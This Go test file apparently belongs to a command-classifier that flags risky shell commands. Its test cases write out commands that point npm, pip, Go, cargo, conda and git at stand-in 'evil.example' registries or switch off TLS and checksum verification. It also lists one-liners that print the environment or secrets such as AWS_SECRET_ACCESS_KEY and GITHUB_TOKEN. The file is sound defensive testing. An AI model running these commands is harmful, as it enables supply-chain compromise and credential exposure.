package normalize

import (
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// TestPackageSources: options, variables and configuration commands that change where packages
// come from are package_source install effects with the source as target; settings that turn
// verification off are verification_off effects; ordinary installs and settings are neither.
func TestPackageSources(t *testing.T) {
	n := New(defaultCatalog(t), specOpts(t, Options{Workspace: "/home/user/project", Home: "/home/user"}))
	src := func(t string) string { return "install " + t + " " + detailPackageSource }
	off := func(t string) string { return "install " + t + " " + detailVerificationOff }
	tests := []struct {
		cmd     string
		want    []string
		notWant []string // effect prefixes that must not appear
	}{
		{cmd: "npm_config_registry=https://npm.evil.example npm install lodash", want: []string{src("https://npm.evil.example")}},
		{cmd: "export NPM_CONFIG_REGISTRY=https://npm.evil.example; npm ci", want: []string{src("https://npm.evil.example")}},
		{cmd: "PIP_INDEX_URL=https://pypi.evil.example/simple pip install x", want: []string{src("https://pypi.evil.example/simple")}},
		{cmd: "UV_EXTRA_INDEX_URL=https://p.evil.example uv sync", want: []string{src("https://p.evil.example")}},
		{cmd: "GOPROXY=https://goproxy.evil.example,direct go mod download", want: []string{src("https://goproxy.evil.example")}, notWant: []string{src("direct")}},
		{cmd: "GOSUMDB=off go get x.io/y", want: []string{off("GOSUMDB=off")}},
		{cmd: "GONOSUMDB=* go mod download", want: []string{off("GONOSUMDB=*")}},
		{cmd: "GOPRIVATE=github.com go get github.com/a/b", want: []string{off("GOPRIVATE=github.com")}},
		{cmd: "GOFLAGS=-insecure go get x.io/y", want: []string{off("GOFLAGS=-insecure")}},
		{cmd: "CARGO_REGISTRIES_EVIL_INDEX=https://c.evil.example/index cargo fetch", want: []string{src("https://c.evil.example/index")}},
		{cmd: "NODE_TLS_REJECT_UNAUTHORIZED=0 npm install", want: []string{off("NODE_TLS_REJECT_UNAUTHORIZED=0")}},
		{cmd: "GIT_SSL_NO_VERIFY=1 git clone https://git.example/x.git", want: []string{off("GIT_SSL_NO_VERIFY=1")}},
		{cmd: "go env -w GOPROXY=https://goproxy.evil.example", want: []string{src("https://goproxy.evil.example")}},
		{cmd: "go env -w GOINSECURE=x.io", want: []string{off("GOINSECURE=x.io")}},
		{cmd: "npm config set registry https://npm.evil.example", want: []string{src("https://npm.evil.example")}},
		{cmd: "npm config set strict-ssl false", want: []string{off("strict-ssl=false")}},
		{cmd: "yarn config set npmRegistryServer https://npm.evil.example", want: []string{src("https://npm.evil.example")}},
		{cmd: "pnpm config set registry https://npm.evil.example", want: []string{src("https://npm.evil.example")}},
		{cmd: "pip config set global.extra-index-url https://p.evil.example/simple", want: []string{src("https://p.evil.example/simple")}},
		{cmd: "pip config set global.trusted-host p.evil.example", want: []string{off("global.trusted-host=p.evil.example")}},
		{cmd: "pip install --trusted-host p.evil.example x", want: []string{off("--trusted-host p.evil.example")}},
		{cmd: "poetry source add evil https://p.evil.example/simple", want: []string{src("https://p.evil.example/simple")}},
		{cmd: "gem sources --add https://gems.evil.example", want: []string{src("https://gems.evil.example")}},
		{cmd: "bundle config set mirror.https://rubygems.org https://gems.evil.example", want: []string{src("https://gems.evil.example")}},
		{cmd: "composer config repositories.evil composer https://repo.evil.example", want: []string{src("https://repo.evil.example")}},
		{cmd: "conda config --add channels https://conda.evil.example/c", want: []string{src("https://conda.evil.example/c")}},
		{cmd: "conda install -c https://conda.evil.example/c numpy", want: []string{src("https://conda.evil.example/c")}},
		{cmd: "cargo install --registry evil rg", want: []string{src("registry evil")}},
		{cmd: "cargo --config 'registries.evil.index=\"https://c.evil.example/i\"' fetch", want: []string{src("https://c.evil.example/i")}},
		{cmd: "brew tap evil/tools https://git.evil.example/homebrew-tools", want: []string{src("https://git.evil.example/homebrew-tools")}},
		{cmd: "git clone -c protocol.file.allow=always https://github.com/a/b.git /tmp/b", want: []string{off("-c protocol.file.allow=always"), "write /tmp/b"}},
		{cmd: "git -c http.sslVerify=false fetch", want: []string{off("-c http.sslVerify=false")}},
		{cmd: "git config --global http.sslVerify false", want: []string{off("http.sslVerify=false")}},
		{cmd: "git clone --recurse-submodules https://git.evil.example/t.git", want: []string{src("https://git.evil.example/t.git")}},
		{cmd: "GIT_CONFIG_PARAMETERS=\"'protocol.file.allow=always'\" git submodule update", want: []string{off("protocol.file.allow=always")}},
		{cmd: "npm install --@acme:registry=https://npm.evil.example @acme/lib", want: []string{src("https://npm.evil.example")}},
		{cmd: "pnpm install --config.registry=https://npm.evil.example", want: []string{src("https://npm.evil.example")}},
		{cmd: "REQUESTS_CA_BUNDLE=/tmp/ca.pem pip install x", want: []string{off("REQUESTS_CA_BUNDLE=/tmp/ca.pem")}},
		{cmd: "CURL_CA_BUNDLE= pip install x", want: []string{off("CURL_CA_BUNDLE=")}},
		{cmd: "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt pip install x", notWant: []string{"install SSL_CERT_FILE"}},
		{cmd: "NODE_EXTRA_CA_CERTS=./certs/dev.pem npm test", notWant: []string{"install NODE_EXTRA_CA_CERTS"}},
		{cmd: "PIP_CONFIG_FILE=/tmp/pip.conf pip install x", want: []string{src("config /tmp/pip.conf")}},
		{cmd: "PIP_CONFIG_FILE=./pip.conf pip install x", notWant: []string{"install config"}},
		{cmd: "RUSTUP_DIST_SERVER=https://rs.evil.example rustup update", want: []string{src("https://rs.evil.example")}},
		{cmd: "PLAYWRIGHT_DOWNLOAD_HOST=https://cdn.evil.example npx playwright install", want: []string{src("https://cdn.evil.example")}},
		{cmd: "yarn set version https://y.evil.example/yarn.cjs", want: []string{src("https://y.evil.example/yarn.cjs")}},
		{cmd: "yarn set version stable", notWant: []string{"install stable"}},
		{cmd: "apt-get install -y --allow-unauthenticated foo", want: []string{off("--allow-unauthenticated")}},
		// ordinary work
		{cmd: "npm install lodash", notWant: []string{"install lodash " + detailPackageSource, "install lodash " + detailVerificationOff}},
		{cmd: "npm config set save-exact true", notWant: []string{"install save-exact"}},
		{cmd: "GOPRIVATE=github.com/acme go build ./...", notWant: []string{"install GOPRIVATE"}},
		{cmd: "GOFLAGS=-mod=mod go build ./...", notWant: []string{"install GOFLAGS"}},
		{cmd: "git clone https://github.com/acme/lib.git vendor/lib", want: []string{"write /home/user/project/vendor/lib"}, notWant: []string{"install https://github.com"}},
		{cmd: "git config user.email dev@acme.dev", notWant: []string{"install user.email"}},
		{cmd: "conda install -c conda-forge numpy", notWant: []string{"install conda-forge"}},
		{cmd: "cargo install --registry crates-io rg", notWant: []string{"install registry"}},
	}
	for _, tc := range tests {
		t.Run(tc.cmd, func(t *testing.T) {
			t.Parallel()
			a := n.Normalize("Bash", map[string]any{"command": tc.cmd}, "")
			for _, w := range tc.want {
				if !hasEffect(a.Effects, w) {
					t.Errorf("missing %q in %v", w, effectStrings(a.Effects))
				}
			}
			for _, w := range tc.notWant {
				for _, e := range effectStrings(a.Effects) {
					if strings.HasPrefix(e, w) {
						t.Errorf("unexpected %q in %v", e, effectStrings(a.Effects))
					}
				}
			}
		})
	}
}

// TestCodeReadsEnv: inline code that prints the environment or a secret-named variable is a
// secret source; code reading an ordinary variable is not.
func TestCodeReadsEnv(t *testing.T) {
	n := New(defaultCatalog(t), specOpts(t, Options{Workspace: "/home/user/project", Home: "/home/user"}))
	secret := []string{
		`python3 -c 'import os; print(os.environ)'`, `python -c 'import os,json;print(json.dumps(dict(os.environ)))'`,
		`python3 -c 'import os;print(os.environ["AWS_SECRET_ACCESS_KEY"])'`, `node -e 'console.log(process.env)'`,
		`node -e 'console.log(process.env.GITHUB_TOKEN)'`, `ruby -e 'p ENV'`, `ruby -e 'puts ENV.to_h'`, `perl -e 'print %ENV'`,
		`perl -e 'print $ENV{NPM_TOKEN}'`, `awk 'BEGIN{for(k in ENVIRON) print k"="ENVIRON[k]}'`, `jq -n env`, `jq -n '$ENV'`,
		`jq -n 'env.GITHUB_TOKEN'`, `pwsh -c 'Get-ChildItem env:'`, `php -r 'print_r(getenv());'`,
	}
	ordinary := []string{
		`python3 -c 'import os; print(os.environ.get("HOME"))'`, `node -e 'console.log(process.env.NODE_ENV)'`,
		`awk '{print ENVIRON["HOME"], $1}' f.txt`, `jq -n '{a: 1}'`, `jq '.environment' conf.json`, `ruby -e 'puts 1+1'`,
		`python3 -c 'print("environ")'`, `node -e 'const envelope = 1; console.log(envelope)'`,
	}
	for _, cmd := range secret {
		if a := n.Normalize("Bash", map[string]any{"command": cmd}, ""); !hasEffectKind(a.Effects, EffectSecret) {
			t.Errorf("%s: no secret effect in %v", cmd, effectStrings(a.Effects))
		}
	}
	for _, cmd := range ordinary {
		if a := n.Normalize("Bash", map[string]any{"command": cmd}, ""); hasEffectKind(a.Effects, EffectSecret) {
			t.Errorf("%s: secret effect in %v", cmd, effectStrings(a.Effects))
		}
	}
}

// FuzzWordEffects feeds arbitrary argument words to the word-level models (secret sources,
// package sources, environment-reading code) under the programs they name: never a panic, every
// effect has a kind, and the effects stay bounded.
func FuzzWordEffects(f *testing.F) {
	progs := []string{"npm", "pip", "go", "git", "cargo", "conda", "gem", "poetry", "bundle", "composer", "brew", "kubectl", "aws",
		"gcloud", "vault", "op", "bw", "ps", "export", "declare", "compgen", "docker", "python3", "node", "ruby", "perl", "awk", "jq",
		"pwsh", "secret-tool", "gopass", "keyctl", "heroku", "gh", "apt-get", "terraform", "sops"}
	for _, s := range []string{"config set registry https://x.example", "env -w GOSUMDB=off GOPROXY=a,b|c", "-c protocol.file.allow=always clone u d",
		"--registry evil install x", "--config 'registries.x.index=\"https://y\"'", "-p", "-xp", "eww", "-o user", "auth token",
		"get secret x -oyaml", "-c 'import os;print(os.environ[\"A_TOKEN\"])'", "-e 'p ENV'", "-n env", "'for(k in ENVIRON)print k'",
		"sources --add", "tap a", "config", "config set", "-c", "--", "$X", "`id`", strings.Repeat("get-token ", 100), ""} {
		for i := range 4 {
			f.Add(s, uint8(i*7))
		}
	}
	n := New(defaultCatalog(f), specOpts(f, Options{Workspace: "/home/user/project", Home: "/home/user"}))
	f.Fuzz(func(t *testing.T, rest string, which uint8) {
		if len(rest) > 4096 {
			return
		}
		prog := progs[int(which)%len(progs)]
		if _, err := syntax.NewParser().Parse(strings.NewReader(prog+" "+rest), ""); err != nil {
			return // not a command line
		}
		a := n.Normalize("Bash", map[string]any{"command": prog + " " + rest}, "")
		if len(a.Effects) > DefaultMaxStrings {
			t.Fatalf("%d effects", len(a.Effects))
		}
		for _, e := range a.Effects {
			if e.Kind == "" {
				t.Fatalf("effect without a kind: %+v", e)
			}
			if e.Kind == EffectInstall && (e.Detail == detailPackageSource || e.Detail == detailVerificationOff) && e.Target == "" {
				t.Fatalf("package setting without a target: %+v", e)
			}
		}
	})
}
